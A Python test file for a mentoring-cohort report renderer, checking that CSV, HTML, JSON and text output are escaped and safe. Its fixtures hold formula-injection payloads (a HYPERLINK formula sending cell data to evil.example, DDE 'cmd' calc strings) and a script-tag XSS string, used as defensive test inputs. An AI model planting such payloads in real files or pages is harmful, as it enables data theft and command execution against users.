"""Rendering: CSV safe for spreadsheets, HTML escaped and self-contained, JSON stable."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import date

import pytest

from domain.evaluation import CohortReport, evaluate
from domain.evaluation_inputs import PairingFacts
from sebaya.report import CSV_COLUMNS, csv_cell, render, to_csv, to_html, to_json, to_text
from tests.evaluation.cohort_facts import (
    AS_OF,
    cohort_mentees,
    cohort_pairings,
    completed,
    final,
    program,
)

HOSTILE = {
    "P101": '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "P102": "+cmd|' /C calc'!A0",
    "P103": "@SUM(1+1)*cmd|' /C calc'!A0",
    "P104": "-2+3",
    "P105": "<script>alert('x')</script> & </ul>",
    "P106": 'baris satu\nbaris dua, dengan "kutip"',
    "P107": "\t=1+1",
}
SOURCE = 'Work Institute 2022,\n"Retention Report"'


def hostile_pairings() -> list[PairingFacts]:
    base = completed(1)
    out = []
    for pid, text in HOSTILE.items():
        out.append(base.model_copy(update={
            "pairing_id": pid,
            "mentor_id": "=M" + pid,  # ids are user input too
            "mentee_id": "E" + pid,
            "final": {
                "mentor": final({"g1": 80}, 4, 4, text),
                "mentee": final({"g1": 70}, 4, 4, "Manajemen waktu"),
            },
        }))
    return out


@pytest.fixture(scope="module")
def report() -> CohortReport:
    # Baselines set so that some differences are negative.
    spec = program(other={"would_recommend_mentee": 0.95, "program_rating_mentor": 4.5})
    spec = spec.model_copy(update={"baseline": spec.baseline.model_copy(update={"source": SOURCE})})
    return evaluate(spec, "=C1", [*cohort_pairings(), *hostile_pairings()], cohort_mentees(),
                    as_of=date(2028, 2, 1))


def parse(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_csv_cell_rule() -> None:
    for text in ("=1+1", "+1", "-1", "@A1", "\tx", "\rx", "  =1+1", "\n@x", "＝1+1"):
        assert csv_cell(text) == "'" + text
    for text in ("Manajemen waktu", "0.5", "retention_45d", "a=b", ""):
        assert csv_cell(text) == text
    assert csv_cell(-0.05) == -0.05
    assert csv_cell(-3) == -3
    assert csv_cell(None) == ""
    assert csv_cell(True) == "true"


def test_csv_round_trips_and_is_escaped(report: CohortReport) -> None:
    text = to_csv(report)
    rows = parse(text)
    assert list(rows[0]) == list(CSV_COLUMNS)
    learned = {r["value"] for r in rows if r["section"] == "learned" and r["group"] == "mentor"}
    assert "'" + HOSTILE["P101"] in learned
    assert "'" + HOSTILE["P102"] in learned
    assert "'" + HOSTILE["P103"] in learned
    assert "'" + HOSTILE["P104"] in learned
    # Learned texts are shown with their spacing collapsed (they are grouped that way), so the
    # tab goes and the "=" that follows it is what gets escaped.
    assert "'=1+1" in learned
    assert 'baris satu baris dua, dengan "kutip"' in learned
    # A line break, comma and quote inside a cell survive the round trip.
    source = next(r for r in rows if r["metric"] == "baseline_source")
    assert source["value"] == SOURCE
    # No cell of the whole file starts with a formula trigger, except numbers.
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                float(cell)  # a plain negative number is the only thing allowed
    cohort = next(r for r in rows if r["metric"] == "cohort_id")
    assert cohort["value"] == "'=C1"


def test_csv_negative_numbers_stay_numbers(report: CohortReport) -> None:
    rows = parse(to_csv(report))
    diff = next(r for r in rows if r["section"] == "before_after"
                and r["metric"] == "would_recommend_mentee" and r["group"] == "difference")
    expected = next(r for r in report.before_after if r.metric == "would_recommend_mentee")
    assert expected.difference is not None and expected.difference < 0
    # No quote prefix: a number a spreadsheet can sum, rounded to 6 places.
    assert diff["value"] == repr(round(expected.difference, 6))
    assert diff["value"].startswith("-0.0")
    assert float(diff["baseline"]) == 0.95
    rating = next(r for r in rows if r["section"] == "before_after"
                  and r["metric"] == "program_rating_mentor" and r["group"] == "difference")
    assert float(rating["value"]) < 0 and not rating["value"].startswith("'")


def test_csv_every_row_has_every_column(report: CohortReport) -> None:
    text = to_csv(report)
    assert "\r\n" in text
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert all(len(r) == len(CSV_COLUMNS) for r in rows)
    sections = {r[0] for r in rows[1:]}
    assert sections == {"report", "counts", "goal_attainment", "meetings", "satisfaction",
                        "learned", "exits", "cross_functional", "retention", "before_after"}
    assert to_csv(report, bom=True).startswith("\ufeffsection,")


def test_html_escapes_user_text(report: CohortReport) -> None:
    page = to_html(report)
    assert "<script" not in page.lower()
    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt; &amp; &lt;/ul&gt;" in page
    assert "=HYPERLINK(&quot;http://evil.example" in page
    assert "Cohort <strong>=C1</strong>" in page


def test_html_is_self_contained_with_a_chart_per_figure(report: CohortReport) -> None:
    page = to_html(report)
    assert page.startswith("<!DOCTYPE html>")
    svgs = re.findall(r"<svg\b[^>]*>", page)
    ids = {re.search(r'aria-labelledby="([\w-]+)-title', s).group(1) for s in svgs}  # type: ignore[union-attr]
    assert ids == {"chart-before-after", "chart-goals", "chart-meetings", "chart-satisfaction",
                   "chart-exits"}
    assert all('role="img"' in s for s in svgs)
    for chart_id in ids:
        assert f'<title id="{chart_id}-title">' in page
        assert f'<desc id="{chart_id}-desc">' in page
    # Each chart has a data table next to it.
    assert page.count("(table for the chart above)") == len(ids)
    # Nothing is loaded from elsewhere.
    assert not re.search(r"""(src|href)\s*=\s*["']?(https?:)?//""", page)
    assert "<link" not in page and "@import" not in page and "url(" not in page
    assert "@media print" in page


def test_html_of_an_empty_cohort() -> None:
    page = to_html(evaluate(program(), "EMPTY", [], [], as_of=AS_OF))
    assert "not enough data (n=0)" in page
    assert "No final evaluations yet." in page
    assert "nan" not in page.lower().replace("nancy", "")


def test_json_is_stable_and_valid(report: CohortReport) -> None:
    text = to_json(report)
    assert text == to_json(report)
    data = json.loads(text)
    assert list(data)[:3] == ["report_version", "cohort_id", "program_name"]
    assert data["retention"]["retention_45d"]["population"] == 27
    assert CohortReport.model_validate(data) == report


def test_text_summary(report: CohortReport) -> None:
    text = to_text(report)
    assert "retention_45d" in text and "Mentors learned:" in text
    assert "\x1b" not in text  # no colour codes
    assert "\t" not in text  # a tab in user text is flattened


def test_render_dispatches_and_refuses_unknown(report: CohortReport) -> None:
    assert render(report, "json") == to_json(report)
    assert render(report, "csv") == to_csv(report)
    assert render(report, "html") == to_html(report)
    assert render(report, "text") == to_text(report)
    with pytest.raises(ValueError, match="xml"):
        render(report, "xml")  # type: ignore[arg-type]
